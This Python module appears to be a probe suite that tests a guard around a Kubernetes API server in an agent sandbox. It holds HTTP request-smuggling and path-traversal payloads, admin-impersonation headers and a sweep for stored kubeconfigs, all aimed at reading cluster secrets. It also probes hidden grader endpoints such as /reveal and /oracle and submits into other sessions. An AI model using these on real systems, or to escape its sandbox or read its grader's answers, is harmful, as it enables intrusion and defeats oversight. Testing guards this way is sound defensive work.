"""Ways around the guard: other endpoints of the API server, and requests that two readers read apart."""

from __future__ import annotations

import re
import socket
import ssl
from pathlib import Path
from typing import TYPE_CHECKING, ClassVar

from .api import guessed
from .ports import listening
from .route import Known, ProbeResult, Route

if TYPE_CHECKING:
    from .place import Place

_SECRETS = "/api/v1/secrets"
TOPS = ("/session", "/tmp", "/root", "/home")  # noqa: S108 - looked at, not used


class OtherDoors(Route):
    """The API server itself, on whatever port of this machine it listens."""

    name: ClassVar[str] = "api-server-directly"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Ask every port for secrets, with every credential that can be found."""
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        for port in listening():
            for path in (_SECRETS, f"/{place.token}{_SECRETS}", "/api/v1/namespaces"):
                result.take(place.ask(f"http://127.0.0.1:{port}{path}", timeout_s=2)[1])
            request = f"GET {_SECRETS} HTTP/1.0\r\nHost: x\r\n\r\n".encode()
            try:
                with (
                    socket.create_connection(("127.0.0.1", port), 2) as line,
                    context.wrap_socket(line, server_hostname="kubernetes") as secure,
                ):
                    secure.sendall(request)
                    while piece := secure.recv(65_536):
                        result.take(piece)
            except OSError:
                continue
        result.facts["ports"] = len(listening())
        for name in ("kubernetes.default.svc", "169.254.169.254", "10.96.0.1"):
            result.take(place.ask(f"http://{name}:443{_SECRETS}", timeout_s=2)[1])


class Kubeconfigs(Route):
    """Kubeconfigs with other rights, wherever they lie."""

    name: ClassVar[str] = "other-kubeconfigs"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Use every one."""
        for top in (*TOPS, str(place.folder), str(Path.cwd())):
            for path in sorted(Path(top).rglob("*"))[:20_000]:
                if path.is_file() and ("kubeconfig" in path.name or path.parent.name == ".kube"):
                    result.take(place.kubectl(f"--kubeconfig={path}", "get", "secrets", "-A", "-o", "yaml"))  # fmt: skip


class Paths(Route):
    """Paths that a guard may read otherwise than the server."""

    name: ClassVar[str] = "path-tricks"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Send them as they are."""
        for path in guessed(place):
            words = path.strip("/").split("/")
            for odd in (
                f"/{path}", path.replace("/", "//"), f"/x/..{path}", f"/.{path}", f"{path}/",
                "/" + "%2f".join(words), "/" + "%2F".join(words), "/%61pi" + path[4:],
                path.replace("namespaces/", "namespaces/./"), f"/x/%2e%2e{path}", f"{path};a=b",
                f"/version?x=/../..{path}", f"{path}%00", f"{path}%20", f"{path}#x",
                path.replace("/namespaces/", "/namespaces//"), path.replace("v1", "V1"),
                path.replace("/namespaces/", "/namespaces/default/../"), f"/\\{path}",
                path.replace("/api/v1/", "/api/v1/watch/"), f"{path}?watch=true&timeoutSeconds=1",
                f"{path}?pretty=true&includeObject=Object", path.replace("/", "\\"),
            ):  # fmt: skip
                request = f"GET {place.way}{odd} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
                result.take(place.raw(request.encode()))
            absolute = f"GET http://{place.host}{place.way}{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
            result.take(place.raw(absolute.encode()))


class Smuggling(Route):
    """Requests within requests: two lengths, chunks and lengths, pipelines, folded headers."""

    name: ClassVar[str] = "request-smuggling"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Hide a request for secrets in another."""
        inner = f"GET {_SECRETS} HTTP/1.1\r\nHost: x\r\n\r\n"
        head = f"POST {place.way}/apis/authorization.k8s.io/v1/selfsubjectaccessreviews HTTP/1.1\r\nHost: x\r\n"
        chunked = "Transfer-Encoding: chunked\r\n"
        for odd in (
            f"{head}Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
            f"{head}Content-Length: {len(inner) + 5}\r\n{chunked}\r\n0\r\n\r\n{inner}",
            f"{head}{chunked}Content-Length: 4\r\n\r\n0\r\n\r\n{inner}",
            f"{head}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{inner}",
            f"{head}Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n{inner}",
            f"{head}Transfer-Encoding:\r\n chunked\r\nContent-Length: 0\r\n\r\n{inner}",
            f"GET {place.way}/version HTTP/1.1\r\nHost: x\r\n\r\n{inner}{inner}",
            f"GET {place.way}/version HTTP/1.1\r\nHost: x\r\nX: a\r\n\tb\r\n\r\n{inner}",
            f"GET {place.way}/version HTTP/1.1\nHost: x\n\n{inner}",
            f"GET {place.way}/version\tHTTP/1.1\r\nHost: x\r\n\r\n{inner}",
            f"HEAD {place.way}/version HTTP/1.1\r\nHost: x\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
            f"GET {place.way}/version HTTP/1.1\r\nHost: x\r\nX: \r\n\r\n{inner}",
            f"{head}Content-Length: -1\r\n\r\n{inner}",
            f"{head}Content-Length: +{len(inner)}\r\n\r\n{inner}",
            f"{head}{chunked}\r\n{len(inner):x};\r\n{inner}\r\n0\r\n\r\n{inner}",
            f"{head}Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{{}}{inner}",
        ):
            result.take(place.raw(odd.encode(), timeout_s=1.0))


class Upgrades(Route):
    """Streams that turn back into requests, and upgrades that were not agreed to."""

    name: ClassVar[str] = "upgrade-smuggling"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Begin a stream, then ask for secrets on the same connection."""
        inner = f"GET {_SECRETS} HTTP/1.1\r\nHost: x\r\n\r\n"
        pods = place.api(f"/api/v1/namespaces/{place.namespace}/pods?limit=1")[1]
        found = re.search(r'"name":\s*"([a-z0-9.-]+)"', pods.partition("\n\n")[2])
        pod = found.group(1) if found else "x"
        stream = f"/api/v1/namespaces/{place.namespace}/pods/{pod}/exec?command=true&stdout=1"
        key = "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
        for path, upgrade in (
            (stream, f"websocket\r\nSec-WebSocket-Protocol: v5.channel.k8s.io\r\n{key}".rstrip()),
            (stream, "SPDY/3.1\r\nX-Stream-Protocol-Version: v4.channel.k8s.io"),
            (stream, "h2c"),
            (stream.replace("exec", "attach"), "websocket"),
            ("/version", f"websocket\r\n{key}".rstrip()),
            ("/version", "h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"),
            ("/api/v1/namespaces/nowhere/pods/x/exec", f"websocket\r\n{key}".rstrip()),
            (
                f"/api/v1/namespaces/{place.namespace}/pods/nobody/exec",
                f"websocket\r\n{key}".rstrip(),
            ),
        ):
            request = f"GET {place.way}{path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: {upgrade}\r\n\r\n"
            result.take(place.raw((request + inner + inner).encode(), timeout_s=1.5))


class Impersonation(Route):
    """Another user's name, in every header that a server may trust."""

    name: ClassVar[str] = "impersonation"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Ask for secrets as an administrator."""
        for headers in (
            {"Impersonate-User": "kubernetes-admin", "Impersonate-Group": "system:masters"},
            {"impersonate_user": "kubernetes-admin"},
            {"Impersonate-User": "on-call", "Impersonate-Group": "system:masters"},
            {"Impersonate-Group": "system:masters"},
            {"Impersonate-Uid": "0"},
            {"Impersonate-User": "system:serviceaccount:kube-system:default"},
            {"Impersonate-Extra-Scopes": "view"},
            {"X-Remote-User": "kubernetes-admin", "X-Remote-Group": "system:masters"},
            {"Authorization": "Basic YWRtaW46YWRtaW4="},
            {"Authorization": f"Bearer {place.token}"},
            {"Connection": "close, Impersonate-User"},
        ):
            result.take(place.ask(f"{place.server}{_SECRETS}", headers=headers)[1])
        double = (
            f"GET {place.way}{_SECRETS} HTTP/1.1\r\nHost: x\r\nImpersonate-User: a\r\n"
            "Impersonate-User: kubernetes-admin\r\nImpersonate-Group: system:masters\r\n"
            "Connection: close\r\n\r\n"
        )
        result.take(place.raw(double.encode()))
        for words in (("--as=kubernetes-admin",), ("--as=x", "--as-group=system:masters")):
            result.take(place.kubectl("get", "secrets", "-A", "-o", "yaml", *words))
            result.take(place.tool("kubectl", command=f"get secrets -A -o yaml {' '.join(words)}"))


class StrangeDoors(Route):
    """The gateway and the MCP servers: paths that were not announced, sessions that are not ours."""

    name: ClassVar[str] = "doors-of-the-session"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Try them."""
        for path in (
            "/", "/record", "/reveal", "/verdict", "/oracle", "/problem", "/journal", "/admin",
            "/debug", "/metrics", "/tools/../record", "/tools/__class__", "/..%2f..%2fetc/passwd",
            "/status?reveal=true", "/instruction?verbose=1", "/openapi.json", "/static/../../x",
        ):  # fmt: skip
            result.take(place.door(path)[1])
            result.take(place.door(path, {"reveal": True})[1])
        for name in ("reference", "reveal", "_reference", "access", "judge", "kubectl "):
            result.take(place.tool(name, command="x", text="x"))
        for port in listening():
            for path in ("/mcp", "/mcp/submission", "/#reveal=1", "/reveal", "/api/reveal"):
                url = f"http://127.0.0.1:{port}{path}"
                result.take(place.ask(url, timeout_s=2)[1])
                headers = {"Authorization": f"Bearer {place.token}", "Mcp-Session-Id": "1"}
                listing = {"jsonrpc": "2.0", "id": 1, "method": "resources/list"}
                result.take(place.ask(url, "POST", listing, headers, 2)[1])


class OtherSession(Route):
    """Another session on this machine: its endpoints with our token, without one, with guessed ones."""

    name: ClassVar[str] = "other-session"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Read it, and hand in there."""
        door = place.guesses.get("other_gateway", "")
        api = place.guesses.get("other_api", "")
        for token in ("", place.token, "x", "null", place.token.lower()):
            headers = {"Authorization": f"Bearer {token}"}
            if door:
                result.take(place.ask(f"{door}/instruction", headers=headers)[1])
                result.take(place.ask(f"{door}/submit", "POST", {"text": "not mine"}, headers)[1])
            if api:
                result.take(place.ask(f"{api}/{token}/api/v1/pods", headers=headers)[1])

    def leaked(self, result: ProbeResult, known: Known) -> str:
        """Nothing may have arrived there."""
        if known.elsewhere:
            return f"{known.elsewhere} submissions arrived in another session"
        return known.found(result.texts)
